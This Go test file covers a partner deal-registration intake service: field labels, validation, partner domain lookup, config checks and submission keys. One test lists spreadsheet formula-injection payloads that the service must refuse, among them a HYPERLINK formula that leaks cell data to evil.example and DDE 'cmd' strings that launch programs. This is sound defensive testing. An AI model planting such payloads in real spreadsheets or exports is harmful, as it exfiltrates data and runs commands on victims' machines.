package intake

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/regsync/regsync/internal/secret"
	"github.com/regsync/regsync/internal/yamlx"
	"github.com/regsync/regsync/registration"
	"github.com/regsync/regsync/rules"
)

func TestFieldForLabel(t *testing.T) {
	cases := map[string]string{
		"Company": "company_name", "Company name": "company_name", "COMPANY NAME:": "company_name",
		"Website": "company_domain", "Domain": "company_domain", "Website / Domain": "company_domain",
		"Web-site *": "company_domain", "Contact": "contact_name", "Contact name": "contact_name",
		"Email": "contact_email", "E-Mail": "contact_email", "e_mail": "contact_email",
		"Role": "contact_role", "Job title": "contact_role", "Problem": "problem",
		"The problem (one sentence)": "problem", "Stage": "stage_guess", "Consent": "consent",
		"Consent (yes/no)": "consent", "company_domain": "company_domain", "partner_email": "partner_email",
		"Company website domain": "company_domain", "Confirmation that the prospect agreed to be contacted": "consent",
		"Deal size": "target_revenue", "Competitors": "competing_vendors", "Pain point": "problem",
		"Organisation": "company_name", "Organization": "company_name",
	}
	for label, want := range cases {
		if got, ok := FieldForLabel(label); !ok || got != want {
			t.Errorf("FieldForLabel(%q) = %q, %v; want %q", label, got, ok, want)
		}
	}
	for _, label := range []string{"", "Status", "status", "case_number", "owner_id", "Hello", "Company / Email", "Subject", "From", "To", "Date", "Sent"} {
		if got, ok := FieldForLabel(label); ok {
			t.Errorf("FieldForLabel(%q) = %q, want unknown", label, got)
		}
	}
	// Every label answers use maps back to its field.
	for _, f := range append(append([]string{}, ProspectFields...), "partner_email") {
		if got, ok := FieldForLabel(FormLabel(f)); !ok || got != f {
			t.Errorf("FormLabel(%s) = %q reads back as %q", f, FormLabel(f), got)
		}
		if got, ok := FieldForLabel(Label(f)); !ok || got != f {
			t.Errorf("Label(%s) = %q reads back as %q", f, Label(f), got)
		}
	}
}

func TestSetField(t *testing.T) {
	var r registration.Record
	for _, c := range []struct{ field, value, reason string }{
		{"company_domain", "not a domain!", "not a website or domain"},
		{"contact_email", "jane at globex", "not a valid e-mail address"},
		{"consent", "maybe", "answer yes or no"},
		{"problem", "bad\x00byte", "contains binary or control characters"},
		{"problem", "\xff\xfe", "not valid text (binary data or a wrong character set)"},
		{"problem", strings.Repeat("x", MaxValueLen+1), "longer than 4000 characters"},
		{"target_revenue", "lots", `"lots" is not a number`},
	} {
		err := SetField(&r, c.field, c.value)
		var fe *FieldError
		if !errors.As(err, &fe) || fe.Field != c.field || fe.Reason != c.reason {
			t.Errorf("SetField(%s, %q) = %v, want %s: %s", c.field, c.value, err, c.field, c.reason)
		}
	}
	if err := SetField(&r, "contact_email", `"Jane" <Jane@Globex.Example>`); err != nil || r.ContactEmail != "Jane@globex.example" {
		t.Errorf("email: %v %q", err, r.ContactEmail)
	}
	if err := SetField(&r, "consent", " Yes "); err != nil || !r.Consent {
		t.Errorf("consent: %v %v", err, r.Consent)
	}
	if err := SetField(&r, "problem", "  line one\nline two  "); err != nil || r.Problem != "line one\nline two" {
		t.Errorf("problem: %v %q", err, r.Problem)
	}
}

func TestDirectory(t *testing.T) {
	f := false
	d := NewDirectory([]rules.Partner{
		{ID: "northwind", EmailDomains: []string{"northwind.example", "nw-partners.example"}},
		{ID: "northwind-eu", EmailDomains: []string{"eu.northwind.example"}},
		{ID: "sleepy", EmailDomains: []string{"sleepy.example"}, Active: &f},
		{ID: "broken", EmailDomains: []string{"not a domain"}},
	})
	for addr, want := range map[string]string{
		"jane@northwind.example":                "northwind",
		`"CEO of Globex" <a@NorthWind.Example>`: "northwind",
		"a@mail.northwind.example":              "northwind",
		"b@eu.northwind.example":                "northwind-eu",
		"c@x.eu.northwind.example":              "northwind-eu",
		"d@nw-partners.example":                 "northwind",
		"e@sleepy.example":                      "sleepy",
	} {
		p, err := d.ForEmail("from", addr)
		if err != nil || p.ID != want {
			t.Errorf("ForEmail(%q) = %q, %v; want %s", addr, p.ID, err, want)
		}
	}
	for _, addr := range []string{"x@globex.example", "x@northwind.example.evil.example", "x@evilnorthwind.example", "northwind.example", `"a@northwind.example" <x@evil.example>`} {
		_, err := d.ForEmail("from", addr)
		var fe *FieldError
		if !errors.As(err, &fe) || fe.Field != "from" {
			t.Errorf("ForEmail(%q) = %v, want a refusal on from", addr, err)
		}
		if err != nil && strings.Contains(err.Error(), "x@") {
			t.Errorf("error repeats the local part: %v", err)
		}
	}
	d.Set([]rules.Partner{{ID: "globex", EmailDomains: []string{"globex.example"}}})
	if _, err := d.ForEmail("from", "jane@northwind.example"); err == nil {
		t.Error("old partner list still used after Set")
	}
	if p, ok := d.ByID("globex"); !ok || p.ID != "globex" || d.Len() != 1 {
		t.Errorf("ByID after Set: %v %v", p, ok)
	}
}

func TestWriteError(t *testing.T) {
	rec := httptest.NewRecorder()
	WriteError(rec, http.StatusUnprocessableEntity, errors.Join(Refuse("from", "unknown sender"), Refuse("consent", "answer yes or no")))
	if rec.Code != 422 || rec.Header().Get("Content-Type") != "application/json; charset=utf-8" {
		t.Fatalf("code %d type %q", rec.Code, rec.Header().Get("Content-Type"))
	}
	want := `{"error":"from: unknown sender; consent: answer yes or no","fields":[{"field":"from","reason":"unknown sender"},{"field":"consent","reason":"answer yes or no"}]}` + "\n"
	if rec.Body.String() != want {
		t.Errorf("body %s", rec.Body.String())
	}
	if StatusFor(&http.MaxBytesError{Limit: 1}) != 413 || StatusFor(Refuse("a", "b")) != 422 || StatusFor(errors.New("x")) != 500 {
		t.Error("StatusFor")
	}
}

func TestByteSize(t *testing.T) {
	for in, want := range map[string]ByteSize{"1024": 1024, "512KiB": 512 << 10, "25MiB": 25 << 20, "25 MB": 25 << 20, "1GiB": 1 << 30, "7b": 7} {
		if got, err := ParseByteSize(in); err != nil || got != want {
			t.Errorf("ParseByteSize(%q) = %d, %v", in, got, err)
		}
	}
	for _, in := range []string{"", "MiB", "-1", "1TB", "1.5MiB", "99999999999999999999"} {
		if _, err := ParseByteSize(in); err == nil {
			t.Errorf("ParseByteSize(%q) accepted", in)
		}
	}
	if ByteSize(25<<20).String() != "25MiB" || ByteSize(1000).String() != "1000" {
		t.Error("String")
	}
}

func TestConfigValidate(t *testing.T) {
	c := DefaultConfig()
	if err := c.Validate(nil); err != nil {
		t.Fatalf("defaults: %v", err)
	}
	partners := []rules.Partner{{ID: "northwind"}}
	c.Email.Enabled = true
	c.Email.IMAP.Enabled = true
	c.Email.IMAP.TLS = "ssl"
	c.Email.ProcessingTimeout = 0
	c.Slack.Enabled = true
	c.Slack.Command = "register"
	c.WebForm.Captcha.Provider = "recaptcha"
	c.WebForm.TrustedProxies = []string{"10.0.0.0/8", "nope"}
	c.WebForm.RateLimit.PerAddressBurst = 0
	c.WebForm.RateLimit.PerPartnerPerHour = -1
	c.WebForm.ConfirmTTL = 0
	c.WebForm.RememberConfirmed = -time.Hour
	c.WebForm.LinkKey = secret.New("too-short")
	c.CSV.BatchSize = 101
	c.CSV.Tokens = []CSVToken{{Partner: "ghost", Token: secret.New("short")}}
	c.HubSpotForm.Enabled = true
	err := c.Validate(partners)
	want := []string{
		"intake.email.token: required when the e-mail channel is enabled: the inbound-mail service sends it with every message (REGSYNC_INTAKE_EMAIL_TOKEN)",
		"intake.email.processing_timeout: must be positive, not 0s",
		`intake.email.imap.addr: "" is not host:port`,
		"intake.email.imap.username: required when imap is enabled",
		`intake.email.imap.tls: must be tls, starttls or none, not "ssl"`,
		"intake.webform.captcha.site_key: required with provider recaptcha",
		"intake.webform.captcha.secret: required with provider recaptcha",
		"intake.webform.rate_limit.per_address_burst: must be positive, not 0",
		"intake.webform.rate_limit.per_partner_per_hour: must be 0 (no limit) or more, not -1",
		"intake.webform.confirm_ttl: must be positive, not 0s",
		"intake.webform.remember_confirmed: must be 0 (never remembered) or more, not -1h0m0s",
		"intake.webform.link_key: too short: use 16 characters or more (32 random ones are best)",
		`intake.webform.trusted_proxies.1: "nope" is not an IP address or CIDR range`,
		"intake.slack.signing_secret: required when the Slack channel is enabled (REGSYNC_INTAKE_SLACK_SIGNING_SECRET)",
		"intake.slack.bot_token: required when the Slack channel is enabled (REGSYNC_INTAKE_SLACK_BOT_TOKEN)",
		`intake.slack.command: "register" is not a slash command such as /register`,
		"intake.csv.batch_size: must be 1 to 100, not 101",
		`intake.csv.tokens.0.partner: no partner with id "ghost"`,
		"intake.csv.tokens.0.token: too short: use 16 characters or more",
		"intake.hubspot_form.forms: list at least one form guid when hubspot_form is enabled",
	}
	if err == nil || err.Error() != strings.Join(want, "\n") {
		t.Errorf("got\n%v\nwant\n%s", err, strings.Join(want, "\n"))
	}
	if p, err := ParsePrefix("192.0.2.7"); err != nil || p.String() != "192.0.2.7/32" {
		t.Errorf("ParsePrefix: %v %v", p, err)
	}
}

func TestAnswers(t *testing.T) {
	hold, meet := time.Date(2025, 5, 3, 0, 0, 0, 0, time.UTC), time.Date(2025, 3, 18, 0, 0, 0, 0, time.UTC)
	for s, want := range map[registration.Status]string{
		registration.StatusSubmitted: "pending", registration.StatusInReview: "pending", registration.StatusAppealed: "pending",
		registration.StatusNone: "pending", registration.StatusNeedsInfo: "needs info", registration.StatusApproved: "approved",
		registration.StatusDeclined: "declined", registration.StatusMeetingBooked: "meeting booked",
	} {
		if got := Badge(s); got != want {
			t.Errorf("Badge(%s) = %q, want %q", s, got, want)
		}
	}
	for _, s := range registration.Statuses {
		if StatusLabel(s) == "Pending" || NextSteps(s, hold, meet, meet) == "" {
			t.Errorf("status %s has no label or next step", s)
		}
	}
	if got := NextSteps(registration.StatusApproved, hold, meet, time.Time{}); got != "The company is registered to you until Sat 3 May 2025. Log a first meeting with the prospect by Tue 18 Mar 2025 to keep the protection." {
		t.Errorf("approved: %q", got)
	}
	if got := NextSteps(registration.StatusSubmitted, time.Time{}, time.Time{}, meet); got != "Received — checking for earlier registrations of this company. The decision follows within moments, on the status page and by e-mail." {
		t.Errorf("submitted: %q", got)
	}
	// (intake.Summary, which put these together, was used by no channel.)
	if got, want := MissingList([]string{"company_domain", "consent"}), "company website domain; confirmation that the prospect agreed to be contacted"; got != want {
		t.Errorf("MissingList: %q, want %q", got, want)
	}
	if got, want := NextSteps(registration.StatusNeedsInfo, time.Time{}, time.Time{}, time.Time{}), "Send the missing details and we will check your registration again right away."; got != want {
		t.Errorf("needs info: %q, want %q", got, want)
	}
}

func TestConfigValidateStatusKeyAndIMAP(t *testing.T) {
	c := DefaultConfig()
	c.StatusPage.Key = secret.New("too-short")
	c.Email.IMAP = IMAPConfig{Enabled: true, Addr: "imap.example:993", TLS: TLSImplicit, Username: "u", Mailbox: "INBOX",
		Keyword: "$Done", PollInterval: time.Minute, Timeout: time.Second}
	err := c.Validate(nil)
	want := "intake.status_page.key: too short: use 16 characters or more (32 random ones are best)\n" +
		"intake.email.imap.enabled: the mailbox is polled only while intake.email.enabled is true"
	if err == nil || err.Error() != want {
		t.Errorf("got\n%v\nwant\n%s", err, want)
	}
}

// require_for_amendments is on unless the file turns it off; require keeps
// its default (off).
func TestEmailAuthenticationDefaults(t *testing.T) {
	for in, want := range map[string][2]bool{
		"email: {enabled: false}":                                                {false, true},
		"email: {authentication: {require_for_amendments: false}}":               {false, false},
		"email: {authentication: {require: true}}":                               {true, true},
		"email: {authentication: {require: true, require_for_amendments: true}}": {true, true},
	} {
		c := DefaultConfig()
		if _, err := yamlx.Decode("intake.yaml", []byte(in), &c); err != nil {
			t.Fatalf("%s: %v", in, err)
		}
		if a := c.Email.Authentication; a.Require != want[0] || a.RequireForAmendments != want[1] {
			t.Errorf("%s: require %v, require_for_amendments %v; want %v", in, a.Require, a.RequireForAmendments, want)
		}
	}
	c := DefaultConfig()
	if _, err := yamlx.Decode("intake.yaml", []byte("email: {authentication: {require_for_amendment: false}}"), &c); err == nil || !strings.Contains(err.Error(), "require_for_amendment not found") {
		t.Errorf("a misspelt key: %v", err)
	}
}

// Name fields refuse what a spreadsheet would run; names that only start
// with a dash, and free text, are kept as written.
func TestSetFieldRefusesFormulasInNames(t *testing.T) {
	refused := []string{
		"=1+1", `=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
		" =1+1", "\t=1", "＝1+1", "＋1", "＠SUM(1)",
		"-2+3+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "-1", "-.5", "-(1)", "--1", "-+1", "-=1", "-@x", `-"a"`, "-'a'",
		"-A1", "-A1+B1", "-XFD1048576", "-$B$2", "-B$2*3", "- 2", "-SUM(A1:A9)", "-HYPERLINK(\"x\")", "-_xlfn.WEBSERVICE(\"x\")",
		"-Sheet1!A1", "-x|y", "－1+1", "-X1 Robotics",
	}
	for _, v := range refused {
		for _, f := range []string{"company_name", "contact_name", "contact_role", "competing_vendors"} {
			var r registration.Record
			err := SetField(&r, f, v)
			var fe *FieldError
			if !errors.As(err, &fe) || fe.Field != f || !strings.Contains(fe.Reason, "like a spreadsheet formula") {
				t.Errorf("SetField(%s, %q) = %v, want a formula refusal on %s", f, v, err, f)
			}
		}
	}
	var r registration.Record
	if err := SetField(&r, "contact_email", "=1+1@globex.example"); err == nil {
		t.Error("an address starting with = was stored")
	}
	for _, v := range []string{"-ity Labs", "- Acme", "-", "-abc def", "-ity Labs (Berlin)", "-abcd1", "3M", "1&1 Internet", "AT&T",
		"O'Brien & Sons", "Yahoo!", "Ben & Jerry's | EU", "Müller-Lüdenscheidt", "e.on"} {
		var r registration.Record
		if err := SetField(&r, "company_name", v); err != nil || r.CompanyName != v {
			t.Errorf("SetField(company_name, %q) = %v, stored %q", v, err, r.CompanyName)
		}
	}
	// Free text keeps what the partner wrote.
	for _, f := range []string{"problem", "solution_fit", "services_needed"} {
		for _, v := range []string{"=> needs SSO", "+1 on audit logs", "@finance wants exports", "- SSO\n- audit logs", "-2+3 is how they count"} {
			var r registration.Record
			if err := SetField(&r, f, v); err != nil {
				t.Errorf("SetField(%s, %q) = %v", f, v, err)
			}
			if got, _ := r.Get(f); got != v {
				t.Errorf("%s stored %q, want %q", f, got, v)
			}
		}
	}
}

// The submission keys are a contract stored in the CRMs: each channel's
// key for the same input, and the case number derived from it, are what
// they were before the funnel made them.
func TestFunnelKeepsEveryChannelsKeyFormat(t *testing.T) {
	for _, tc := range []struct {
		channel  string
		material []string
		key      string
		cn       string
	}{
		{ChannelWebForm, []string{"00112233445566778899aabbccddeeff"}, "webform:00112233445566778899aabbccddeeff", "R-WFBRHJTTXH"},
		{ChannelSlack, []string{"T1", "1337.42"}, "slack:T1:1337.42", "R-AS2S7BP7GQ"},
		{ChannelSlack, []string{"T1", "V123"}, "slack:T1:V123", "R-RCSCCCEQ7W"},
		{ChannelCSV, []string{"northwind", "0123456789abcdef0123456789abcdef", "3"}, "csv:northwind:0123456789abcdef0123456789abcdef:3", "R-H7BFK8VFQD"},
		{ChannelHubSpotForm, []string{"guid-1", "conv-9"}, "hubspot_form:guid-1:conv-9", "R-KX9P995722"},
		{ChannelEmail, []string{"v2", "0123456789abcdef0123456789abcdef"}, "email:v2:0123456789abcdef0123456789abcdef", ""},
		{ChannelEmail, []string{"<a@b>"}, "email:<a@b>", ""}, // the legacy key
	} {
		if got := SubmissionKey(tc.channel, tc.material...); got != tc.key {
			t.Errorf("SubmissionKey(%s, %q) = %q, want %q", tc.channel, tc.material, got, tc.key)
		}
		sub, errs := testFunnel().Submission(tc.channel, registration.Record{CompanyName: "Globex"}, tc.material...)
		if len(errs) > 0 || sub.Key != tc.key || sub.Record.SubmissionKey != tc.key || sub.Channel != tc.channel || sub.Record.Source != tc.channel {
			t.Errorf("%s: submission %+v, %v", tc.key, sub, errs)
		}
		if want := registration.CaseNumberFor(tc.key); sub.Record.CaseNumber != want || (tc.cn != "" && want != tc.cn) {
			t.Errorf("%s: case %q, want %q (%q)", tc.key, sub.Record.CaseNumber, want, tc.cn)
		}
	}
}

func testFunnel() *Funnel {
	return NewFunnel(nil, NewDirectory([]rules.Partner{
		{ID: "northwind", Name: "Northwind Consulting", Type: "reseller", EmailDomains: []string{"northwind.example"}},
		{ID: "fabrikam", Name: "Fabrikam", EmailDomains: []string{"fabrikam.example"}},
	}), registration.NewFreeMail([]string{"mail.example"}, nil))
}

// The shared checks: each refusal names its field and why, and the value
// refused is left out of the submission.
func TestFunnelChecks(t *testing.T) {
	base := func() registration.Record {
		return registration.Record{PartnerID: "northwind", CompanyName: "Globex", CompanyDomain: "globex.example", ContactEmail: "hank@globex.example"}
	}
	for _, tc := range []struct {
		name  string
		mod   func(*registration.Record)
		field string
		want  string
	}{
		{"clean", nil, "", ""},
		{"free-mail website", func(r *registration.Record) { r.CompanyDomain = "gmail.com" }, "company_domain", "gmail.com is a free e-mail provider: enter the company's own website"},
		{"free-mail website from the config", func(r *registration.Record) { r.CompanyDomain = "mail.example" }, "company_domain", "mail.example is a free e-mail provider: enter the company's own website"},
		{"contact at the partner's own company", func(r *registration.Record) { r.ContactEmail = "bob@eu.northwind.example" }, "contact_email", "that is an address at your own company; give the prospect's address"},
		{"contact at another partner", func(r *registration.Record) { r.ContactEmail = "bob@fabrikam.example" }, "", ""},
		{"no partner yet", func(r *registration.Record) { r.PartnerID, r.ContactEmail = "", "bob@northwind.example" }, "", ""},
	} {
		rec := base()
		if tc.mod != nil {
			tc.mod(&rec)
		}
		sub, errs := testFunnel().Submission(ChannelCSV, rec, "x")
		switch {
		case tc.field == "" && len(errs) > 0:
			t.Errorf("%s: refused %v", tc.name, errs)
		case tc.field != "" && (len(errs) != 1 || errs[0].Field != tc.field || errs[0].Reason != tc.want):
			t.Errorf("%s: %v, want %s: %s", tc.name, errs, tc.field, tc.want)
		case tc.field != "":
			if v, _ := sub.Record.Get(tc.field); v != "" {
				t.Errorf("%s: refused value %q kept", tc.name, v)
			}
		}
	}
}

// The funnel names the partner as the partner list does, whatever the
// input said.
func TestFunnelNamesThePartner(t *testing.T) {
	sub, _ := testFunnel().Submission(ChannelHubSpotForm, registration.Record{PartnerID: "northwind", PartnerName: "Evil Twin Ltd"}, "g", "c")
	if sub.Record.PartnerName != "Northwind Consulting" || sub.Record.PartnerType != "reseller" {
		t.Errorf("partner %q/%q", sub.Record.PartnerName, sub.Record.PartnerType)
	}
}

type countingRegistrar struct {
	Registrar
	rcs []Receipt
	err error
}

func (c countingRegistrar) Register(context.Context, []Submission) ([]Receipt, error) {
	return c.rcs, c.err
}

// A Registrar that answers for fewer submissions than it was given, or
// without a case number, is an error, never a receipt.
func TestFunnelRegisterChecksTheRegistrarsAnswer(t *testing.T) {
	sub, _ := testFunnel().Submission(ChannelSlack, registration.Record{CompanyName: "Globex"}, "T", "1")
	for _, tc := range []struct {
		reg  countingRegistrar
		want string
	}{
		{countingRegistrar{}, "registrar returned 0 receipts for 1 submissions"},
		{countingRegistrar{rcs: []Receipt{{Status: registration.StatusSubmitted}}}, "registrar returned a receipt without a case number"},
		{countingRegistrar{rcs: []Receipt{{CaseNumber: "R-X", Err: errors.New("crm said no")}}}, "crm said no"},
		{countingRegistrar{err: errors.New("down")}, "down"},
	} {
		f := testFunnel()
		f.Registrar = tc.reg
		if _, err := f.RegisterOne(context.Background(), sub); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%v, want %q", err, tc.want)
		}
	}
	f := testFunnel()
	f.Registrar = countingRegistrar{rcs: []Receipt{{CaseNumber: sub.Record.CaseNumber}}}
	if rc, err := f.RegisterOne(context.Background(), sub); err != nil || rc.CaseNumber != sub.Record.CaseNumber {
		t.Errorf("%+v %v", rc, err)
	}
}
